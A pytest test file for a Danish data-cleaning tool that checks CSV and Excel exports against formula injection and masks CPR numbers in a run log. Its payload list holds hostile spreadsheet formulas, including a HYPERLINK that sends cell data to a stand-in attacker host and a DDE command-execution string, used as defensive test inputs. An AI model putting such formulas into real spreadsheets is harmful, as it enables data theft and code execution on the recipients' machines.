"""CSV files for people and CRMs: no cell runs as a formula; Danish Excel reads æøå and columns.

Issue 9, items 7 (formula injection, the OWASP CSV-injection rule) and 15 (the Excel hand-off).
"""

from __future__ import annotations

from pathlib import Path

import polars as pl
import pytest

from datavask.connectors.output import (
    neutralise_formulas,
    read_excel_csv,
    write_excel_csv,
    write_table,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"klik")',
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
    "+",
    "@",
    "+45 33 1A",  # a letter: not a plain number
    "+45 4050 6080 lok(A1)",  # an extension word called as a function
    "+45 4050 6080 lok. 12 !A1",
    "+44 20 7946 0000 x12",  # X12 is a cell
]
PLAIN = [
    "+4512345678",
    "-250.00",
    "+45 33 12 12 12",
    "-1,5",
    "Hansen Byg ApS",
    "",
    "12-34",
    # A phone number with its extension goes back to the CRM as typed, not with a "'" in front.
    "+45 4050 6080 lok. 12",
    "+45 40506080 lokal 3",
    "+1 212 555 0100 ext. 5",
    "+44 20 7946 0000 x 12",
]


@pytest.mark.parametrize("value", PAYLOADS)
def test_a_formula_gets_a_leading_apostrophe(value: str) -> None:
    out = neutralise_formulas(pl.DataFrame({"v": [value]}))["v"][0]
    assert out == "'" + value


@pytest.mark.parametrize("value", PLAIN)
def test_numbers_phones_and_text_are_left_alone(value: str) -> None:
    assert neutralise_formulas(pl.DataFrame({"v": [value]}))["v"][0] == value


def test_non_text_columns_and_nulls_pass_through() -> None:
    frame = pl.DataFrame({"n": [-1, 2], "s": [None, "=x"], "b": [True, False]})
    out = neutralise_formulas(frame)
    assert out["n"].to_list() == [-1, 2] and out["b"].to_list() == [True, False]
    assert out["s"].to_list() == [None, "'=x"]
    assert neutralise_formulas(pl.DataFrame({"n": [1]})).equals(pl.DataFrame({"n": [1]}))


def test_excel_csv_has_bom_semicolons_and_utf8(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {"record_id": ["1"], "field": ["name"], "before": ["=cmd"], "after": ["Møller Æble Ø"]}
    )
    path = write_excel_csv(frame, tmp_path / "changes.csv")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfrecord_id;field;before;after\n")
    assert "Møller Æble Ø".encode() in data
    assert read_excel_csv(path).row(0) == ("1", "name", "'=cmd", "Møller Æble Ø")


def test_csv_tables_are_neutralised(tmp_path: Path) -> None:
    frame = pl.DataFrame({"name": ["=1+1"], "flags": [["A", "B"]]})
    write_table(frame, tmp_path / "records.csv")
    assert pl.read_csv(tmp_path / "records.csv").row(0) == ("'=1+1", "A|B")


def test_run_json_masks_a_cpr_number_in_any_string_and_keeps_hex_ids(tmp_path: Path) -> None:
    """The last line of defence: a value that reached run.json without the input's masking
    (before: a sheet name ``Kunder 0101901234``) is masked there; a sha256 or run id is no text."""
    import json

    from datavask.connectors.output import write_json

    digest = "a1010190123b" + "0" * 52
    data = {
        "input": {"sheet": "Kunder 0101901234", "sheets_not_read": ["Ark 010190-1234"],
                  "sha256": digest, "rows": 3, "path": Path("in/010190 1234.xlsx")},
        "run_id": "c0101901234d" + "f" * 20,
        "counts": {"Note 0101901234": 1},
    }  # fmt: skip
    written = json.loads(write_json(data, tmp_path / "run.json").read_text(encoding="utf-8"))
    assert written["input"] == {
        "sheet": "Kunder XXXXXX-XXXX", "sheets_not_read": ["Ark XXXXXX-XXXX"], "sha256": digest,
        "rows": 3, "path": "in/XXXXXX-XXXX.xlsx",
    }  # fmt: skip
    assert written["run_id"] == data["run_id"]
    assert written["counts"] == {"Note XXXXXX-XXXX": 1}
